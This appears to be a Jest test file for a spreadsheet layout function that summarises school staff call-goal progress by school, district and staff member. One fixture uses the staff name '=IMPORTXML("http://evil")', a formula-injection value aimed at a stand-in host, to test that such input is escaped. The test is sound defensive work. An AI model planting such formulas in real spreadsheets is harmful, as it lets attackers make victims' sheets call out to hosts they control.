import { SummaryResult, SchoolProgress, StaffProgress } from '../../src/core/progress';
import { ALL_COUNTED_NOTE, summaryLayout } from '../../src/core/summaryTable';
import { SUMMARY_SCHOOL_HEADERS, SUMMARY_STAFF_HEADERS } from '../../src/core/schema';

function staffRow(p: Partial<StaffProgress>): StaffProgress {
  return {
    school: 'Lincoln',
    name: 'Kim',
    email: 'kim@s.org',
    goal: 10,
    familiesReached: 6,
    attempts: 9,
    thisWeek: 2,
    percentOfGoal: 0.6,
    status: 'On pace',
    lastCall: '2026-09-14',
    openFollowUps: 1,
    overdueFollowUps: 0,
    counted: 6,
    byHand: 0,
    ...p,
  };
}

function schoolRow(p: Partial<SchoolProgress>): SchoolProgress {
  return {
    school: 'Lincoln',
    staffWithGoals: 5,
    metGoal: 3,
    exceededGoal: 1,
    percentMet: 0.6,
    percentExceeded: 0.2,
    familiesReached: 40,
    rosterFamilies: 80,
    percentRosterReached: 0.5,
    openFollowUps: 2,
    overdueFollowUps: 1,
    ...p,
  };
}

const result: SummaryResult = {
  staff: [
    staffRow({}),
    staffRow({ name: '=IMPORTXML("http://evil")', email: 'x@s.org', lastCall: null, school: '2026' }),
  ],
  schools: [
    schoolRow({}),
    schoolRow({
      school: 'Adams',
      staffWithGoals: 0,
      metGoal: 0,
      exceededGoal: 0,
      percentMet: 0,
      rosterFamilies: 0,
      percentRosterReached: null,
    }),
  ],
  district: schoolRow({ school: 'District', staffWithGoals: 5, familiesReached: 70, rosterFamilies: 80 }),
  callsByUnknownStaff: { count: 0, emails: [] },
  invalidCallRows: 0,
  problems: [],
  contributions: {},
};

describe('summaryLayout', () => {
  const layout = summaryLayout(result, '2026-09-15 14:05 America/Chicago');
  const row = (n: number) => layout.values[n - 1];

  test('is one rectangle of strings and numbers, as wide as the staff table', () => {
    for (const r of layout.values) {
      expect(r).toHaveLength(SUMMARY_STAFF_HEADERS.length);
      for (const cell of r) expect(['string', 'number']).toContain(typeof cell);
    }
  });

  test('the title and the Last refreshed stamp come first', () => {
    expect(layout.stampRow).toBe(1);
    expect(row(1).slice(0, 2)).toEqual([
      'Call goal progress',
      'Last refreshed 2026-09-15 14:05 America/Chicago',
    ]);
    expect(row(2).every((c) => c === '')).toBe(true);
  });

  test('the stamp line names the settings that could not be read', () => {
    const named = summaryLayout(result, 'now', ['Goal Deadline', 'Digest Hour']);
    expect(named.values[0][1]).toBe(
      'Last refreshed now. Settings not read, defaults used: Goal Deadline, Digest Hour (see the note on each in Settings).',
    );
  });

  test("the school table comes first, the district's % Met and % Exceeded Goal next to % Met, and ends with the district total", () => {
    expect(layout.schoolHeaderRow).toBe(3);
    expect(row(3)).toEqual([
      ...SUMMARY_SCHOOL_HEADERS,
      ...new Array(SUMMARY_STAFF_HEADERS.length - SUMMARY_SCHOOL_HEADERS.length).fill(''),
    ]);
    expect(SUMMARY_SCHOOL_HEADERS.indexOf('District % Met')).toBe(
      SUMMARY_SCHOOL_HEADERS.indexOf('% Met') + 1,
    );
    expect(SUMMARY_SCHOOL_HEADERS.indexOf('% Exceeded Goal')).toBe(
      SUMMARY_SCHOOL_HEADERS.indexOf('% Met') + 2,
    );
    expect(layout.schoolRows).toEqual({ first: 4, count: 3 });
    expect(layout.districtRow).toBe(6);
    // Not listed in a district tracker: the district's % Met is blank.
    expect(row(4).slice(0, 12)).toEqual(['Lincoln', 5, 3, 1, 0.6, '', 0.2, 40, 80, 0.5, 2, 1]);
    // No staff with goals and no Roster: the percentages are blank, not 0%.
    expect(row(5).slice(0, 12)).toEqual(['Adams', 0, 0, 0, '', '', '', 40, 0, '', 2, 1]);
    expect(row(6)[0]).toBe('District');
    expect(layout.schoolPercentColumns.map((c) => SUMMARY_SCHOOL_HEADERS[c - 1])).toEqual([
      '% Met',
      'District % Met',
      '% Exceeded Goal',
      '% Roster Reached',
    ]);
  });

  test("once a district tracker has read this tracker, every school row shows the district's % Met", () => {
    const listed = summaryLayout(result, 'now', [], 0.45);
    const at = SUMMARY_SCHOOL_HEADERS.indexOf('District % Met');
    expect([4, 5, 6].map((r) => listed.values[r - 1][at])).toEqual([0.45, 0.45, 0.45]);
  });

  test('then the staff table with the contract headers, and the header rows frozen', () => {
    expect(layout.staffHeaderRow).toBe(8);
    expect(row(8)).toEqual([...SUMMARY_STAFF_HEADERS]);
    expect(layout.staffRows).toEqual({ first: 9, count: 2 });
    expect(row(9)).toEqual([
      'Lincoln',
      'Kim',
      'kim@s.org',
      10,
      6,
      9,
      2,
      0.6,
      'On pace',
      '2026-09-14',
      1,
      0,
      0,
    ]);
    expect(SUMMARY_STAFF_HEADERS[layout.staffPercentColumn - 1]).toBe('% of Goal');
    expect(SUMMARY_STAFF_HEADERS[layout.staffStatusColumn - 1]).toBe('Status');
    expect(layout.staffStatuses).toEqual(['On pace', 'On pace']);
    expect(layout.frozenRows).toBe(8);
  });

  test('a district with many schools freezes only the title and the school header', () => {
    const many = summaryLayout(
      { ...result, schools: Array.from({ length: 30 }, (_, i) => schoolRow({ school: `S${i}` })) },
      'now',
    );
    expect(many.frozenRows).toBe(3);
  });

  test('names people typed never become formulas or numbers; no Last Call, goal or status is blank', () => {
    expect(row(10).slice(0, 3)).toEqual(["'2026", '\'=IMPORTXML("http://evil")', 'x@s.org']);
    expect(row(10)[9]).toBe('');
    const noGoal = summaryLayout(
      { ...result, staff: [staffRow({ goal: null, percentOfGoal: null, status: null })] },
      'now',
    );
    expect(noGoal.values[noGoal.staffRows.first - 1].slice(3, 9)).toEqual(['', 6, 9, 2, '', '']);
    expect(noGoal.staffStatuses).toEqual(['']);
  });

  test('notes say everything was counted, or list the problems', () => {
    expect(layout.notesRows).toEqual({ first: 12, count: 1 });
    expect(row(12)[0]).toBe(ALL_COUNTED_NOTE);
    expect(layout.values).toHaveLength(12);

    const problems = [
      '3 calls were logged by 1 person not on Staff (sub@s.org): add them to Staff so their calls count.',
      'Second.',
    ];
    const withProblems = summaryLayout({ ...result, problems }, 'now');
    expect(withProblems.notesRows).toEqual({ first: 12, count: 2 });
    expect(withProblems.values.slice(11).map((r) => r[0])).toEqual([`'${problems[0]}`, 'Second.']);
  });

  test('with no staff rows, the parts still line up', () => {
    const empty = summaryLayout({ ...result, staff: [], schools: [] }, 'now');
    expect(empty.schoolHeaderRow).toBe(3);
    expect(empty.districtRow).toBe(4);
    expect(empty.staffHeaderRow).toBe(6);
    expect(empty.staffRows).toEqual({ first: 7, count: 0 });
    expect(empty.notesRows.first).toBe(8);
  });
});
